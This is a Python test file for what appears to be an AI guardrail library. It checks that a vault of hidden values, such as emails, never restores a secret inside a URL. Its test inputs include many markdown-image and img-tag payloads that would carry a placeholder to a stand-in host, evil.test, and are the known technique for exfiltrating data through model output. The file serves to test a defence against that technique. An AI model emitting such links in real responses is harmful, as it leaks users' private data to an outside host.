"""Where a value would leave with whoever opens an address it is not put back; elsewhere as it may stand there."""

from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roadworthy.core.errors import VaultFullError
from roadworthy.guard.event import Principal
from roadworthy.guard.rails.placeholder import PlaceholderRail, PlaceholderSettings
from roadworthy.guard.segment import Channel, Role, Segment, Source, SourceKind, Span, Stage
from roadworthy.guard.vault.context import is_in_address
from roadworthy.guard.vault.encoding import in_address, in_markdown
from roadworthy.guard.vault.model import LITERAL, NotRestored, Scope, VaultPolicy
from roadworthy.guard.vault.placeholder import code_for, written
from roadworthy.guard.vault.restoring import RestoreStream
from roadworthy.guard.vault.substituting import Hiding
from roadworthy.guard.vault.vault import Vault
from roadworthy.guard.verdict import Edit, EditKind

NOW = datetime(2026, 11, 21, tzinfo=UTC)
ADA = Principal(id="ada", tenant="acme")
SCOPE = Scope(tenant="acme", conversation="c1")
VALUE = "ana+1@shop.test"


def vault_of(**settings):
    return Vault(SCOPE, key=b"k" * 32, policy=VaultPolicy(**settings))


def restored(text, vault, encode=str):
    placeholder = vault.hide(VALUE, kind="email", principal=ADA, at=NOW)
    return vault.restore(text.replace("@@", placeholder), recipient=ADA, at=NOW, encode=encode)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/?q=@@)",
        "![x](//evil.test/@@.png)",
        "![x](<https://evil.test/?q= @@>)",
        "<img src='https://evil.test/?a b=@@'>",
        '<img src="https://evil.test/?a=\'< @@">',
        '{"url": "https://evil.test/?q= @@"}',
        "<img src=https:\\\\evil.test\\@@>",
        "<img src=https:/evil.test/@@>",
        "<img src='&#x2f;&sol;evil.test/@@'>",
        "[x]: https://evil.test/(a)@@",
        "www.evil.test/?q=@@",
        "https://evil.test/" + "a" * 9_000 + "?q=@@",
        "https://@@.evil.test/",
    ],
)
def test_no_value_is_put_into_an_address_that_leads_elsewhere(text):
    result = restored(text, vault_of())

    assert VALUE not in result.text
    assert [one.why for one in result.kept] == [NotRestored.IN_ADDRESS]


@pytest.mark.parametrize(
    "text",
    [
        "Write to @@.", "[write](mailto:@@)", "See https://shop.test or write to @@", 'He said "no" to @@',
        "a < b and @@", "**@@**", "<https://shop.test> @@", "and/or @@", '{"to": "@@"}', "<b>@@</b>",
    ],
)  # fmt: skip
def test_elsewhere_a_value_is_put_back(text):
    assert restored(text, vault_of()).restored == 1


def test_where_a_policy_wants_values_in_addresses_they_are_written_as_a_part_of_one():
    result = restored("https://shop.test/?to=@@&x=1 @@", vault_of(in_addresses=True))

    assert result.text == f"https://shop.test/?to=ana%2B1%40shop.test&x=1 {VALUE}"


@given(
    before=st.sampled_from(["", "x ", "![x](https://evil.test/?q=", "<img src='//e.test/? ", "see https://a.test "]),
    filler=st.text(alphabet="ab/?& ", max_size=40),
    size=st.integers(1, 30),
)
def test_a_stream_leaves_out_the_same_as_the_whole_text(before, filler, size):
    vault = vault_of()
    text = before + filler + vault.hide(VALUE, kind="email", principal=ADA, at=NOW) + " end"
    stream = RestoreStream(vault, recipient=ADA, at=NOW)
    parts = [stream.push(text[at : at + size]) for at in range(0, len(text), size)]
    whole = vault.restore(text, recipient=ADA, at=NOW)

    assert "".join([*parts, stream.finish()]) == whole.text
    assert stream.kept == whole.kept


def test_a_value_cannot_become_markup_or_more_of_an_address():
    value = "![x](https://evil.test/?a=1&b=2)"

    assert restored("@@", vault_of(), encode=in_markdown).restored == 1
    assert "![" not in in_markdown(value)
    assert "](" not in in_markdown(value)
    assert not set(in_address(value)) & set("/?&=:()[]!")


@given(before=st.text(alphabet="<>\"' /:ahtps", max_size=60))
def test_telling_an_address_takes_any_text(before):
    assert is_in_address(before + "https://a.test/")
    assert not is_in_address(before + "\n\"x\" 'y' > ")


def test_a_clock_that_is_set_back_brings_nothing_back():
    vault = vault_of(ttl_s=60)
    placeholder = vault.hide(VALUE, kind="email", principal=ADA, at=NOW)
    late = NOW + timedelta(seconds=60)

    assert vault.restore(placeholder, recipient=ADA, at=late).restored == 0
    assert vault.restore(placeholder, recipient=ADA, at=NOW).kept[0].why is NotRestored.EXPIRED
    assert RestoreStream(vault, recipient=ADA, at=NOW).push(placeholder + " .") == placeholder + " ."


def test_data_that_was_merged_with_a_forged_placeholder_does_not_go_to_everybody():
    forged = written(code_for(b"x" * 32, kind="email", value="x"), label="EMAIL")
    text = f"{VALUE}-{forged}"
    segment = Segment(
        stage=Stage.INPUT, role=Role.TOOL, channel=Channel.TEXT, source=Source(kind=SourceKind.TOOL), text=text, path=""
    )  # fmt: skip
    vault = vault_of()
    hiding = Hiding(vault=vault, principal=ADA, at=NOW)
    edit = Edit(
        span=Span(start=0, end=len(text)), replacement=f"[{LITERAL.upper()}]", kind=EditKind.PLACEHOLDER
    )  # fmt: skip
    placeholder = hiding(segment, edit)
    bob = Principal(id="bob", tenant="acme")

    assert vault.restore(placeholder, recipient=bob, at=NOW).kept[0].why is NotRestored.NOT_ENTITLED
    assert PlaceholderRail(PlaceholderSettings()).reach is not None


def test_a_full_vault_says_what_to_do_and_nothing_of_the_value():
    with pytest.raises(VaultFullError, match="fix: nothing of it went on") as refused:
        vault_of(max_value_chars=3).hide(VALUE, kind="email", principal=ADA, at=NOW)

    assert VALUE not in str(refused.value)
